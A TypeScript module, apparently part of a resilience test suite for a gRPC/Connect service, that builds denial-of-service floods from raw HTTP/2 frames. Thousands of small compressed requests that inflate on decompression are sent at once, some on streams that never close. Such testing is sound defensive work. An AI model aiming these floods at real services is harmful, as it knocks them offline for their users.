import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib';
import {
  callHeaders,
  DATA,
  END_HEADERS,
  END_STREAM,
  frame,
  HEADERS,
  type RawHttp2,
} from '../frames.ts';
import { type Flood, METHOD, REFLECTION, strange } from './flood.ts';

const HEALTH = '/grpc.health.v1.Health/Check';
const REVOCATIONS = '/countersign.v1.SessionService/WatchRevocations';
const IMPORT = '/countersign.v1.AdminService/ImportUsers';
const TOKEN = 'x'.repeat(60_000);
const JSON_TEXT = JSON.stringify({ token: TOKEN });
/** Field 1, with a length of two bytes and more. */
const BINARY = Buffer.concat([Buffer.from([0x0a, 0xe0, 0xd4, 0x03]), Buffer.from(TOKEN)]);
/** The same field, with one byte. */
const TINY = Buffer.from([0x0a, 0x01, 0x78]);

/** What is sent on every stream, and on how many. */
type Calls = {
  type: string;
  fields: Record<string, string>;
  body: Buffer;
  connections: number;
  streams: number;
  path?: string;
  /** Whether the request never ends. */
  isOpen?: boolean;
};

/** One of each kind: by Connect, by gRPC's fast path, and by grpc-js. */
export const KINDS: readonly string[] = [
  'Connect calls by gzip',
  'gRPC calls by gzip',
  'checks of health',
];

/** Small requests that are large when they are decompressed, thousands at once. */
export const COMPRESSED: readonly Flood[] = [
  byHttp('Connect calls by gzip', {
    type: 'application/json',
    fields: { 'content-encoding': 'gzip' },
    body: gzipSync(JSON_TEXT),
  }),
  byHttp('Connect calls by brotli', {
    type: 'application/json',
    fields: { 'content-encoding': 'br' },
    body: brotliCompressSync(JSON_TEXT),
  }),
  byHttp('gRPC-Web calls', {
    type: 'application/grpc-web+proto',
    fields: { 'grpc-encoding': 'gzip' },
    body: prefixed(gzipSync(BINARY)),
  }),
  byGrpc('gRPC calls by gzip', { body: gzipSync(BINARY) }),
  byGrpc('gRPC calls by deflate', { encoding: 'deflate', body: deflateSync(BINARY) }),
  byGrpc('tiny gRPC calls', { body: gzipSync(TINY) }),
  byGrpc('gRPC calls that never end', { body: gzipSync(BINARY), isOpen: true }),
  byGrpcJs('checks of health', HEALTH),
  byGrpcJs('calls of reflection', REFLECTION),
  byGrpcJs('streams of revocations', REVOCATIONS),
  byGrpcJs('imports of users', IMPORT),
];

function byHttp(calls: string, sent: Pick<Calls, 'type' | 'fields' | 'body'>): Flood {
  return {
    title: `${calls} are compressed, thousands at once`,
    attack: ({ ways, connect }) =>
      send(() => connect(ways.at(-1)?.[0] ?? ''), {
        ...sent,
        connections: 40,
        streams: 100,
      }),
  };
}

/** On so many connections that hardly any is closed for what it does. */
function byGrpc(
  calls: string,
  {
    encoding = 'gzip',
    body,
    ...rest
  }: Pick<Calls, 'body' | 'path' | 'isOpen'> & { encoding?: string },
): Flood {
  const sent = {
    ...rest,
    type: 'application/grpc',
    fields: { 'grpc-encoding': encoding },
    body: prefixed(body),
    connections: 80,
    streams: 100,
  };
  return {
    title: `${calls} are compressed, 8,000 at once`,
    attack: ({ ways, connect }) => send(() => connect(ways[0]?.[0] ?? ''), sent),
  };
}

/** What grpc-js always serves. */
function byGrpcJs(calls: string, path: string): Flood {
  return { ...byGrpc(calls, { path, body: gzipSync(BINARY) }), isSameByAllPaths: true };
}

async function send(connect: () => Promise<RawHttp2>, calls: Calls): Promise<void> {
  const { path = METHOD, type, fields, body, connections, streams, isOpen } = calls;
  const block = callHeaders(path, { ...strange(type), ...fields });
  const frames = Array.from({ length: streams }, (_, index) => [
    frame(HEADERS, END_HEADERS, 2 * index + 1, block),
    frame(DATA, isOpen ? 0 : END_STREAM, 2 * index + 1, body),
  ]);
  const all = Buffer.concat(frames.flat());
  const open: RawHttp2[] = [];
  for (let connection = 0; connection < connections; connection += 1) {
    const raw = await connect();
    open.push(raw);
  }
  // On all of them at once: the service then finds thousands of calls in one turn.
  for (const raw of open) raw.write(all);
}

/** A compressed message with the prefix that gRPC has. */
function prefixed(message: Buffer): Buffer {
  const prefix = Buffer.alloc(5);
  prefix[0] = 1;
  prefix.writeUInt32BE(message.length, 1);
  return Buffer.concat([prefix, message]);
}
